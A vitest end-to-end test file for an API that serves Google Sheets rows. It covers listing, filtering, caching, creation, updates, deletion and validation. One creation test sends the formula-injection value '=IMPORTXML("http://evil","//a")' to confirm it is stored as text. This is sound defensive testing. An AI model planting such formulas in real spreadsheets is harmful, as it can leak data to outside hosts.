// The rows API end to end in-process: route handlers, withApiKey, the tab cache, googleapis
// against emulators/google, PGlite and the in-process limit store.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createUser } from "@/db/queries/users";
import { DEMO_SPREADSHEET_ID, PUBLIC_READONLY_SPREADSHEET_ID } from "@/emulators/google/seed";
import { memoryStore, setLimitStore } from "@/lib/store/store";
import { rowsClient } from "@/testing/rows-client";
import { callRoute } from "@/testing/routes";
import { startTestService, type TestService } from "@/testing/service";
import { proveAccessWithGoogle, registeredKey } from "@/testing/google";

let svc: TestService;
let api: ReturnType<typeof rowsClient>;
let readOnly: ReturnType<typeof rowsClient>;
let unicode: ReturnType<typeof rowsClient>;
let unicodeId: string;
let owner: Awaited<ReturnType<typeof createUser>>;
const TAB = "Ventes été 📦";

/** A new spreadsheet of the owner's, which the service may edit, registered: its id and a client with its first key. */
async function registeredSheet(title: string, tabs: { title: string; rows: unknown[][] }[]) {
  const sheetId = String(
    (
      await svc.admin("/spreadsheets", {
        title,
        members: { "sheetapi-local@sheetapi-local.iam.gserviceaccount.com": "writer", "owner@example.com": "owner" },
        tabs,
      })
    ).spreadsheetId,
  );
  return { sheetId, client: rowsClient(sheetId, await registeredKey(owner, sheetId)) };
}

beforeAll(async () => {
  // Edits made in the emulator below must stay unseen until a refresh: no Drive checks meanwhile.
  svc = await startTestService({ env: { CHANGE_CHECK_INTERVAL_MS: "600000" } });
  setLimitStore(memoryStore());
  const { registerSheet } = await import("@/lib/sheets/registration/registration");
  const user = (owner = await createUser({ email: "rows@example.com", plan: "business" }));
  await proveAccessWithGoogle(user, [DEMO_SPREADSHEET_ID, PUBLIC_READONLY_SPREADSHEET_ID]);
  api = rowsClient(
    DEMO_SPREADSHEET_ID,
    (await registerSheet({ userId: user.id, sheetUrl: DEMO_SPREADSHEET_ID })).apiKey!,
  );
  readOnly = rowsClient(
    PUBLIC_READONLY_SPREADSHEET_ID,
    (await registerSheet({ userId: user.id, sheetUrl: PUBLIC_READONLY_SPREADSHEET_ID })).apiKey!,
  );
  ({ sheetId: unicodeId, client: unicode } = await registeredSheet("Unicode", [
    {
      title: TAB,
      rows: [
        ["id", "produit", "prix"],
        [1, "Crème brûlée", 4.5],
        [2, "Café", 2],
      ],
    },
  ]));
});
afterAll(async () => {
  setLimitStore(undefined);
  await svc.stop();
});
beforeEach(() => svc.google.calls.clear());

const raw = async (id: string) =>
  (await svc.admin(`/spreadsheets/${id}`)) as unknown as {
    tabs: { title: string; rows: ({ value: unknown } | null)[][] }[];
  };

describe("reading", () => {
  it("lists rows with meta, values as strings, empty cells as empty strings", async () => {
    const res = await api.list("Products");
    expect(res.status).toBe(200);
    expect(res.body.meta).toEqual({ total: 6, limit: 100, offset: 0, returned: 6 });
    expect((res.body.data as unknown[])[1]).toEqual({
      id: "2",
      name: "Standing desk",
      price: "$399.00",
      in_stock: "TRUE",
      released: "2024-02-13",
      rating: "4.8",
      notes: "",
    });
  });

  it("gives row-number ids to tabs without an id column, skipping blank rows", async () => {
    const res = await api.list("Team Members", "select=name");
    expect(res.body.data).toEqual([
      { id: "2", name: "Ada Lovelace" },
      { id: "3", name: "Grace Hopper" },
      { id: "5", name: "Katherine Johnson" },
      { id: "6", name: "Alan Turing" },
    ]);
    expect((await api.get("Team Members", "5")).body.data).toMatchObject({ id: "5", name: "Katherine Johnson" });
  });

  it("filters, sorts and pages; total counts the matches", async () => {
    const res = await api.list(
      "Products",
      "filter=in_stock=TRUE,price>=20&sort=price&order=desc&limit=2&offset=1&select=name,price",
    );
    expect(res.body.meta).toEqual({ total: 3, limit: 2, offset: 1, returned: 2 });
    expect(res.body.data).toEqual([
      { id: "4", name: "Ergonomic chair", price: "$249.00" },
      { id: "1", name: "Desk lamp", price: "$24.50" },
    ]);
  });

  it("returns typed values on request", async () => {
    const res = await api.get("Products", "3", "typed=true");
    expect(res.body.data).toEqual({
      id: 3,
      name: "Monitor arm",
      price: 89.99,
      in_stock: false,
      released: "2024-04-18",
      rating: 4.1,
      notes: "Back in March",
    });
    expect(((await api.list("Orders", "typed=true")).body.data as Record<string, unknown>[])[1]).toMatchObject({
      discount: 0.1,
      quantity: 1,
    });
  });

  it("reads tabs with spaces and unicode in their names, case-sensitively", async () => {
    expect((await unicode.list(TAB)).body.data).toEqual([
      { id: "1", produit: "Crème brûlée", prix: "4.5" },
      { id: "2", produit: "Café", prix: "2" },
    ]);
    const wrongCase = await api.list("products");
    expect(wrongCase.status).toBe(404);
    expect(wrongCase.body).toMatchObject({ success: false, error: "not_found" });
    expect(String(wrongCase.body.message)).toContain("Tabs: Products, Team Members, Orders");
  });

  it("answers 404 for an unknown row", async () => {
    expect((await api.get("Products", "999")).body).toMatchObject({
      success: false,
      error: "not_found",
      message: 'No row with id "999" in the tab "Products".',
    });
  });

  it.each([
    ["limit=5000", 'limit must be an integer from 1 to 1000; got "5000".'],
    ["offset=x", 'offset must be a whole number, 0 or more; got "x".'],
    ["order=sideways", 'order must be asc or desc (lower case), or one of them per sort column; got "sideways".'],
    ["sort=name&order=DESC", 'order must be asc or desc (lower case), or one of them per sort column; got "DESC".'],
    ["limit=10&limit=1000", 'The query parameter "limit" was sent 2 times; it takes one value.'],
    ["sort=colour", 'Unknown sort column "colour". Columns: id, name, price, in_stock, released, rating, notes.'],
    [
      "filter=colour=red",
      'Unknown filter column "colour". Columns: id, name, price, in_stock, released, rating, notes.',
    ],
    ["filter=name", 'Cannot read the filter condition "name": write column=value (operators = != > >= < <= ~ ~=).'],
    ["select=colour", 'Unknown select column "colour". Columns: id, name, price, in_stock, released, rating, notes.'],
    ["typed=maybe", 'typed must be true or false; got "maybe".'],
    [
      "page=2",
      'Unknown query parameter "page". Use limit, offset, sort, order, filter, or, select, typed, formulas, fresh (names starting with _ are ignored).',
    ],
  ])("answers 400 for %s", async (query, message) => {
    const res = await api.list("Products", query);
    expect(res.status).toBe(400);
    expect(res.body).toEqual({ success: false, error: "validation_error", message });
  });
});

describe("the cache", () => {
  it("serves repeated reads from memory and coalesces concurrent misses into one Google call", async () => {
    await unicode.create(TAB, { produit: "Thé", prix: 3 });
    // A write through another instance: every instance's copy of the tab is out of date (the writer's own copy
    // is the write's read-back, so a create here would leave nothing to miss).
    await (await import("@/lib/sheets/read/tab-cache")).invalidateSheetData(unicodeId, [TAB]);
    svc.google.calls.clear();
    const results = await Promise.all(Array.from({ length: 50 }, () => unicode.list(TAB)));
    expect(results.every((r) => r.status === 200)).toBe(true);
    expect(svc.google.calls.get("values.get")).toBe(1);
    expect(results.filter((r) => r.headers.get("x-cache") === "MISS").length).toBe(50);
    const again = await unicode.list(TAB);
    expect(again.headers.get("x-cache")).toBe("HIT");
    expect(svc.google.calls.get("values.get")).toBe(1);
  });

  it("shows a write to the next read", async () => {
    await unicode.list(TAB);
    await unicode.update(TAB, "1", { prix: 5 });
    const res = await unicode.get(TAB, "1");
    expect(res.body.data).toMatchObject({ prix: "5" });
  });

  it("drops cached rows on refresh-schema", async () => {
    await unicode.list(TAB);
    await svc.admin(`/spreadsheets/${unicodeId}/values`, { range: `'${TAB}'!B2`, values: [["Crème caramel"]] });
    expect(((await unicode.list(TAB)).body.data as { produit: string }[])[0]!.produit).toBe("Crème brûlée");
    const { POST } = await import("@/app/api/[sheetId]/refresh-schema/route");
    await callRoute(POST, {
      method: "POST",
      path: `/api/${unicodeId}/refresh-schema`,
      params: { sheetId: unicodeId },
      headers: { "X-API-Key": await unicodeKey() },
    });
    expect(((await unicode.list(TAB)).body.data as { produit: string }[])[0]!.produit).toBe("Crème caramel");
  });
});

describe("creating rows", () => {
  it("creates one row with the next id, writing values as text, never as formulas, and answers it as the sheet shows it", async () => {
    const res = await api.create("Products", {
      name: "Shelf",
      price: 10,
      in_stock: true,
      notes: '=IMPORTXML("http://evil","//a")',
    });
    expect(res.status).toBe(201);
    expect(res.body.data).toEqual({
      created: 1,
      rows: [
        {
          id: "7",
          name: "Shelf",
          price: "$10.00",
          in_stock: "TRUE",
          released: "",
          rating: "",
          notes: '=IMPORTXML("http://evil","//a")',
        },
      ],
    });
    const stored = (await raw(DEMO_SPREADSHEET_ID)).tabs[0]!.rows[7]!;
    expect(stored[0]).toEqual({ value: 7 });
    expect(stored[6]).toEqual({ value: '=IMPORTXML("http://evil","//a")' });
    expect((await api.get("Products", "7")).body.data).toMatchObject({ name: "Shelf", price: "$10.00" });
  });

  it("creates many rows in one atomic batch, after one read of the tab", async () => {
    svc.google.calls.clear();
    const res = await api.create("Products", [{ name: "A" }, { name: "B", id: 100 }, { name: "C" }]);
    expect(res.status).toBe(201);
    expect((res.body.data as { rows: { id: string }[] }).rows.map((r) => r.id)).toEqual(["101", "100", "102"]);
    expect(Object.fromEntries(svc.google.calls)).toEqual({ "values.get": 1, "spreadsheets.batchUpdate": 1 });
  });

  it("gives row numbers to rows created in a tab without an id column", async () => {
    const res = await api.create("Team Members", { name: "Hedy Lamarr", active: true });
    expect((res.body.data as { rows: Record<string, string>[] }).rows[0]).toMatchObject({
      id: "7",
      name: "Hedy Lamarr",
      active: "TRUE",
    });
  });

  it.each([
    ["a body that is not JSON", "{oops", 400, "validation_error", /not valid JSON/],
    ["an empty object", {}, 400, "validation_error", /empty object/],
    ["an empty array", [], 400, "validation_error", /empty array/],
    ["a string", '"hello"', 400, "validation_error", /JSON object/],
    ["an unknown column", { colour: "red" }, 400, "validation_error", /"colour" is not a column of "Products"/],
    [
      "a nested value",
      { name: { first: "x" } },
      400,
      "validation_error",
      /Field "name" must be a string, number, boolean or null/,
    ],
    [
      "a value longer than a cell holds",
      [{ name: "ok" }, { name: "x".repeat(50_001) }],
      400,
      "validation_error",
      /Field "name" of row 2 is 50,001 characters long: a Google Sheets cell holds at most 50,000\. Nothing was written\./,
    ],
    [
      "a NUL in a value",
      [{ name: "ok" }, { name: "a\u0000b" }],
      400,
      "validation_error",
      /^Field "name" of row 2 holds a NUL character \(\\u0000\), which a Google Sheets cell may not store as sent\. Nothing was written\.$/,
    ],
    [
      "a lone surrogate in a value",
      { name: "half \ud83d pair" },
      400,
      "validation_error",
      /^Field "name" holds a lone UTF-16 surrogate \(half of a pair, e\.g\. \\ud800\), which a Google Sheets cell may not store as sent\. Nothing was written\.$/,
    ],
    [
      "a lone low surrogate in a value",
      { name: "\ude00" },
      400,
      "validation_error",
      /^Field "name" holds a lone UTF-16 surrogate/,
    ],
    ["an existing id", { id: 1, name: "dup" }, 409, "conflict", /id "1" already exists/],
    [
      "a repeated id",
      [
        { id: 500, name: "a" },
        { id: 500, name: "b" },
      ],
      409,
      "conflict",
      /Rows 1 and 2 of this request both have id "500"/,
    ],
  ])("refuses %s and writes nothing", async (_case, body, status, code, message) => {
    const before = JSON.stringify((await raw(DEMO_SPREADSHEET_ID)).tabs[0]);
    const res = await api.create("Products", body);
    expect(res.status).toBe(status);
    expect(res.body).toMatchObject({ success: false, error: code });
    expect(String(res.body.message)).toMatch(message);
    expect(JSON.stringify((await raw(DEMO_SPREADSHEET_ID)).tabs[0])).toBe(before);
  });

  it("refuses a bulk create when any row is invalid, writing none of them", async () => {
    const before = JSON.stringify((await raw(DEMO_SPREADSHEET_ID)).tabs[0]);
    const res = await api.create("Products", [{ name: "ok" }, { name: "ok too" }, { nope: 1 }]);
    expect(res.body).toMatchObject({
      error: "validation_error",
      message:
        'Row 3: "nope" is not a column of "Products". Columns: id, name, price, in_stock, released, rating, notes.',
    });
    expect(JSON.stringify((await raw(DEMO_SPREADSHEET_ID)).tabs[0])).toBe(before);
  });

  it("refuses an id in a tab without an id column, more than 1,000 rows, other content types and bodies over 1 MB", async () => {
    expect((await api.create("Team Members", { id: 9, name: "x" })).body.message).toMatch(/has no id column/);
    expect(
      (
        await api.create(
          "Products",
          Array.from({ length: 1001 }, () => ({ name: "x" })),
        )
      ).body.message,
    ).toBe("At most 1000 rows can be created in one request; got 1001.");
    const text = await api.create("Products", "name=x", { "content-type": "text/plain" });
    expect([text.status, text.body.error]).toEqual([400, "validation_error"]);
    const typed = await api.create("Products", '{"name":"x"}', { "content-type": "text/plain" });
    expect([typed.status, typed.body.error]).toEqual([415, "unsupported_media_type"]);
    const huge = await api.create("Products", { notes: "x".repeat(1024 * 1024 + 10) });
    expect([huge.status, huge.body.error]).toEqual([413, "payload_too_large"]);
  });

  it("refuses writes to a read-only sheet with how to make it writable", async () => {
    const res = await readOnly.create("Prices", { sku: "C3" });
    expect(res.status).toBe(403);
    expect(String(res.body.message)).toMatch(/share it with the service's Google account as Editor/);
  });

  it("keeps a given id as sent: leading zeros and 16+ digits stay text ids, and the counter goes on from the plain ones", async () => {
    type Created = { rows: { id: string }[] };
    const cellOf = async (name: string) =>
      (await raw(DEMO_SPREADSHEET_ID)).tabs[0]!.rows.find((r) => r?.[1]?.value === name)![0];
    // "02" is not row 2's id: written as a number it would show as "2", a second row with that id.
    const zero = await api.create("Products", { id: "02", name: "Zero-led" });
    expect([zero.status, (zero.body.data as Created).rows[0]!.id]).toEqual([201, "02"]);
    expect(await cellOf("Zero-led")).toEqual({ value: "02" });
    expect((await api.get("Products", "02")).body.data).toMatchObject({ id: "02", name: "Zero-led" });
    expect((await api.get("Products", "2")).body.data).toMatchObject({ id: "2", name: "Standing desk" });
    expect((await api.list("Products", "filter=name=Standing desk")).body.meta).toMatchObject({ total: 1 });
    expect((await api.create("Products", { id: "02", name: "again" })).status).toBe(409);

    // Sheets keeps 15 significant digits: a longer id written as a number would come back rounded.
    const long = "1234567890123456";
    const big = await api.create("Products", { id: long, name: "Long id" });
    expect([big.status, (big.body.data as Created).rows[0]!.id]).toEqual([201, long]);
    expect(await cellOf("Long id")).toEqual({ value: long });
    expect((await api.get("Products", long)).body.data).toMatchObject({ id: long, name: "Long id" });
    expect((await api.create("Products", { id: long, name: "again" })).status).toBe(409);
    expect((await api.create("Products", { id: 1234567890123457, name: "JSON number" })).body.data).toMatchObject({
      rows: [{ id: "1234567890123457" }],
    });

    // New ids go on from the plain integer ids, each its own.
    const next = await api.create("Products", [{ name: "After 1" }, { name: "After 2" }]);
    const ids = (next.body.data as Created).rows.map((r) => r.id);
    expect(ids.every((id) => /^[1-9]\d{0,14}$/.test(id))).toBe(true);
    expect(new Set(ids).size).toBe(2);
    for (const id of ids) expect((await api.get("Products", id)).body.data).toMatchObject({ id });
  });

  it("refuses the ids _aggregate and _distinct, which name routes of the tab, writing nothing", async () => {
    for (const id of ["_aggregate", "_distinct"]) {
      const res = await api.create("Products", [{ name: "fine" }, { id, name: "reserved" }]);
      expect([res.status, res.body.error]).toEqual([400, "validation_error"]);
      expect(String(res.body.message)).toContain(`Row 2: the id "${id}"`);
    }
    expect((await api.list("Products", "filter=name=fine")).body.meta).toMatchObject({ total: 0 });
  });

  it("never hands out an id again, even once the limit store has forgotten everything (a restart of the embedded store)", async () => {
    const idOf = (res: { body: Record<string, unknown> }) => (res.body.data as { rows: { id: string }[] }).rows[0]!.id;
    const { sheetId, client: ids } = await registeredSheet("Ids", [
      {
        title: "Items",
        rows: [
          ["id", "name"],
          [1, "a"],
          [2, "b"],
        ],
      },
      {
        title: "Older",
        rows: [
          ["id", "name"],
          [1, "a"],
        ],
      },
    ]);
    expect(idOf(await ids.create("Items", { name: "c" }))).toBe("3");
    expect(idOf(await ids.create("Items", { name: "d" }))).toBe("4");
    expect((await ids.remove("Items", "4")).status).toBe(200);
    setLimitStore(memoryStore());
    expect(idOf(await ids.create("Items", { name: "e" }))).toBe("5");
    // The store's counter, when it has one, still counts: a mark never lowers it.
    const { getLimitStore } = await import("@/lib/store/store");
    const { idCounterKey } = await import("@/lib/sheets/write/row-ids");
    const olderGid = svc.google.store.get(sheetId)!.tabs.find((t) => t.title === "Older")!.sheetId;
    await getLimitStore().put(idCounterKey(sheetId, olderGid), 40 as unknown as object, 60);
    expect(idOf(await ids.create("Older", { name: "b" }))).toBe("41");
    setLimitStore(memoryStore());
    expect(idOf(await ids.create("Older", { name: "c" }))).toBe("42");

    // Renamed in the Sheets UI, the tab goes on from its own ids; a new tab under its old name goes
    // on above the old one's (a name's mark is kept too, for the earlier release's instances).
    expect((await ids.remove("Older", "42")).status).toBe(200);
    await svc.google.store.mutate(sheetId, (s) => {
      const older = s.tabs.find((t) => t.title === "Older")!;
      older.title = "Renamed";
      s.tabs.push({
        ...older,
        title: "Older",
        sheetId: older.sheetId + 1000,
        rows: [
          [{ value: "id" }, { value: "name" }],
          [{ value: 1 }, { value: "new" }],
        ],
      });
    });
    const { POST } = await import("@/app/api/[sheetId]/refresh-schema/route");
    expect(
      (
        await callRoute(POST, {
          method: "POST",
          path: `/api/${sheetId}/refresh-schema`,
          params: { sheetId },
          headers: { "X-API-Key": ids.key },
        })
      ).status,
    ).toBe(200);
    setLimitStore(memoryStore());
    expect(idOf(await ids.create("Renamed", { name: "d" }))).toBe("43");
    expect(idOf(await ids.create("Older", { name: "again" }))).toBe("43");
  });

  it("says how to allow writes again when the service's account may only view the sheet now, and keeps reading", async () => {
    const { sheetId, client: api } = await registeredSheet("Viewer now", [
      {
        title: "Items",
        rows: [
          ["id", "name"],
          [1, "a"],
        ],
      },
    ]);
    await svc.admin(
      `/spreadsheets/${sheetId}/access`,
      { members: { "sheetapi-local@sheetapi-local.iam.gserviceaccount.com": "reader" } },
      "PATCH",
    );
    const refused = await api.create("Items", { name: "b" });
    expect([refused.status, refused.body.error]).toEqual([403, "forbidden"]);
    expect(String(refused.body.message)).toMatch(
      /can no longer edit this spreadsheet .* nothing was written\. .* share the sheet with the service's account as Editor, or register it through the private flow/,
    );
    expect((await api.list("Items", "fresh=true")).status).toBe(200);
    expect(svc.google.store.get(sheetId)!.tabs[0]!.rows.filter((r) => r.some(Boolean))).toHaveLength(2);
  });
});

describe("updating and deleting rows", () => {
  it("changes only the named cells and answers the whole row", async () => {
    const res = await api.update("Products", "4", { rating: 4.9, notes: null });
    expect(res.status).toBe(200);
    expect(res.body.data).toEqual({
      id: "4",
      name: "Ergonomic chair",
      price: "$249.00",
      in_stock: "TRUE",
      released: "2023-07-16",
      rating: "4.9",
      notes: "",
    });
    expect((await api.get("Products", "4")).body.data).toMatchObject({ name: "Ergonomic chair", rating: "4.9" });
  });

  it.each([
    ["an id change", { id: 99 }, 400, /id cannot be changed: it identifies the row \(this row's id is "4"\)/],
    ["only the row's own id", { id: "4" }, 400, /names only the row's own id/],
    ["an unknown column", { colour: 1 }, 400, /"colour" is not a column/],
    ["an empty object", {}, 400, /empty object/],
    ["an array", [{ name: "x" }], 400, /JSON object/],
  ])("refuses %s", async (_case, body, status, message) => {
    const res = await api.update("Products", "4", body);
    expect(res.status).toBe(status);
    expect(String(res.body.message)).toMatch(message);
  });

  it("takes a row read, edited and sent back whole: its own id is no change", async () => {
    const { data } = (await api.get("Products", "4")).body as { data: Record<string, string> };
    const res = await api.update("Products", "4", { ...data, notes: "sent back whole" });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data).toEqual({ ...data, notes: "sent back whole" });
  });

  it("answers 404 when updating or deleting a row that is not there", async () => {
    expect((await api.update("Products", "12345", { name: "x" })).status).toBe(404);
    expect((await api.remove("Products", "12345")).status).toBe(404);
  });

  it("deletes exactly the matching row, even after someone inserted rows above it in the sheet", async () => {
    await svc.google.store.mutate(DEMO_SPREADSHEET_ID, (s) => {
      s.tabs[0]!.rows.splice(1, 0, [{ value: 900 }, { value: "Inserted in the UI" }]);
    });
    const res = await api.remove("Products", "5");
    expect(res.body).toEqual({ success: true, message: 'Row 5 deleted from "Products".' });
    const names = ((await api.list("Products", "select=name")).body.data as { id: string }[]).map((r) => r.id);
    expect(names).toContain("900");
    expect(names).not.toContain("5");
    expect(names).toContain("4");
    expect(names).toContain("6");
  });
});

async function unicodeKey(): Promise<string> {
  const { createKeyForSheet } = await import("@/lib/keys/manage");
  const { getUserByEmail } = await import("@/db/queries/users");
  const user = (await getUserByEmail({ email: "rows@example.com" }))!;
  return (await createKeyForSheet({ userId: user.id, sheetId: unicodeId, name: "schema", permissions: ["schema"] }))
    .value;
}
